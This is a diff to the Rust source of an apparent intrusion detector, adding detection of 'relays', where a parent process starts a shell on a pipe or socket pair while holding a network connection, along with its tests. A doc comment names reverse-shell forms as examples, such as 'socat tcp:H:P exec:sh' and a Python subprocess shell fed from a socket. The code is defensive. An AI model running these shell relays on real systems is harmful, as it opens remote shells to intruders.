@@ -8,6 +8,13 @@
 //! stdin, not its other end): a sibling started within a second of the reader (a pipeline's
 //! members are forked back to back), which connects or decodes within seconds, is taken for it.
 //! Two quick commands run one after the other can pass for a pipeline.
+//!
+//! The relay is the same reader fed by its parent instead of a sibling: a program that holds
+//! a connection and starts a shell on a pipe or a socket pair (python's `subprocess.Popen(
+//! ["/bin/sh"], stdin=PIPE)` pumping a socket, `socat tcp:H:P exec:sh`, an implant's `exec`
+//! command). There the writer is known: the parent set the pipe up. It either connected
+//! before it started the reader, or connects within the window after (socat opens its
+//! addresses in the order given).
 
 use std::{
     collections::HashMap,
@@ -119,6 +126,17 @@ impl Fetch {
     }
 }
 
+/// A reader waiting for its parent to connect.
+struct RelayReader {
+    reader: ProcessKey,
+    exe: Arc<str>,
+    /// What its stdin is: "pipe" or "socket pair".
+    over: &'static str,
+    /// The parent's start: a later process with the parent's pid is not the parent.
+    parent_start_ns: u64,
+    at: Instant,
+}
+
 #[derive(Default)]
 pub(super) struct PipedWatch {
     /// Parent tgid -> readers started under it: (process, its exe, when).
@@ -126,6 +144,8 @@ pub(super) struct PipedWatch {
     /// Parent or grandparent tgid -> the last connection one of its children or grandchildren
     /// made (`timeout 5 curl URL | sh` puts curl a generation lower).
     fetches: HashMap<u32, (Fetch, Instant)>,
+    /// Parent tgid -> readers it started before it made or accepted a connection.
+    relays: HashMap<u32, Vec<RelayReader>>,
     /// Parents dropped while still within the window to stay bounded; reported in status.
     pub forgotten: u64,
 }
@@ -188,6 +208,56 @@ impl PipedWatch {
         }
         out
     }
+
+    /// A reader started by `parent`, which has not connected (yet): waits the window for it.
+    pub fn relay_reader(
+        &mut self,
+        reader: ProcessKey,
+        exe: Arc<str>,
+        over: &'static str,
+        parent: ProcessKey,
+        now: Instant,
+    ) {
+        if parent.tgid == 0 {
+            return;
+        }
+        self.forgotten += prune(&mut self.relays, now, |v| v.last().map(|r| r.at));
+        self.relays.entry(parent.tgid).or_default().push(RelayReader {
+            reader,
+            exe,
+            over,
+            parent_start_ns: parent.start_ns,
+            at: now,
+        });
+    }
+
+    /// `parent` made or accepted an internet connection: the readers it started within the
+    /// window before, each once.
+    pub fn relay_connected(
+        &mut self,
+        parent: ProcessKey,
+        now: Instant,
+    ) -> Vec<(ProcessKey, Arc<str>, &'static str)> {
+        let Some(waiting) = self.relays.remove(&parent.tgid) else {
+            return Vec::new();
+        };
+        waiting
+            .into_iter()
+            .filter(|r| {
+                r.parent_start_ns == parent.start_ns && now.saturating_duration_since(r.at) <= WINDOW
+            })
+            .map(|r| (r.reader, r.exe, r.over))
+            .collect()
+    }
+}
+
+/// The incident detail of a relay: `reader`, started by `parent` on a pipe or socket pair,
+/// reads its program from it while that parent holds a connection.
+pub(super) fn describe_relay(reader: &str, over: &str, parent: &str, parent_pid: u32) -> String {
+    let parent = if parent.is_empty() { "a process" } else { parent };
+    format!(
+        "{reader} reads its program from a {over} set up by its parent {parent} (pid {parent_pid}), which made or accepted an internet connection"
+    )
 }
 
 /// Drops entries older than the window once a map reaches its bound, and everything when that
@@ -367,5 +437,49 @@ mod tests {
         // The decoder first, then the reader.
         assert!(w.fetched(decoder(20), 200, 1, t0).is_empty());
         assert_eq!(w.reader(key(21), "/usr/bin/sh".into(), 200, t0), Some(decoder(20)));
+    }
+
+    #[test]
+    fn a_relay_that_connects_after_starting_its_shell_completes_it_once() {
+        let t0 = Instant::now();
+        let mut w = PipedWatch::default();
+        let (socat, sh) = (key(100), key(101));
+        w.relay_reader(sh, "/usr/bin/sh".into(), "socket pair", socat, t0);
+        // Another process's connection, and one by an earlier process with the parent's pid.
+        assert!(w.relay_connected(key(200), t0).is_empty());
+        assert!(w.relay_connected(ProcessKey::new(100, 1), t0).is_empty());
+        // Gone with that stale lookup: a relay is one parent, and its pid is now someone else's.
+        w.relay_reader(sh, "/usr/bin/sh".into(), "socket pair", socat, t0);
+        assert_eq!(
+            w.relay_connected(socat, t0 + Duration::from_secs(2)),
+            vec![(sh, Arc::from("/usr/bin/sh"), "socket pair")]
+        );
+        assert!(w.relay_connected(socat, t0 + Duration::from_secs(3)).is_empty(), "once");
+        // A connection long after the reader started is not what it was started for.
+        w.relay_reader(key(301), "/usr/bin/bash".into(), "pipe", key(300), t0);
+        assert!(w.relay_connected(key(300), t0 + WINDOW + Duration::from_secs(1)).is_empty());
+        // Unknown parents name nobody.
+        w.relay_reader(key(401), "/usr/bin/bash".into(), "pipe", ProcessKey::new(0, 0), t0);
+        assert!(w.relays.is_empty());
+    }
+
+    #[test]
+    fn relays_are_described_by_their_parent() {
+        assert_eq!(
+            describe_relay("/usr/bin/dash", "pipe", "/usr/bin/python3.11", 42),
+            "/usr/bin/dash reads its program from a pipe set up by its parent /usr/bin/python3.11 (pid 42), which made or accepted an internet connection"
+        );
+        assert!(describe_relay("/usr/bin/sh", "socket pair", "", 7).contains("by its parent a process (pid 7)"));
+    }
+
+    #[test]
+    fn relay_readers_are_bounded() {
+        let t0 = Instant::now();
+        let mut w = PipedWatch::default();
+        for p in 1..=2 * MAX_PARENTS as u32 {
+            w.relay_reader(key(p + 100_000), "/usr/bin/sh".into(), "pipe", key(p), t0);
+        }
+        assert!(w.relays.len() <= MAX_PARENTS, "{}", w.relays.len());
+        assert_eq!(w.forgotten, MAX_PARENTS as u64);
     }
 }
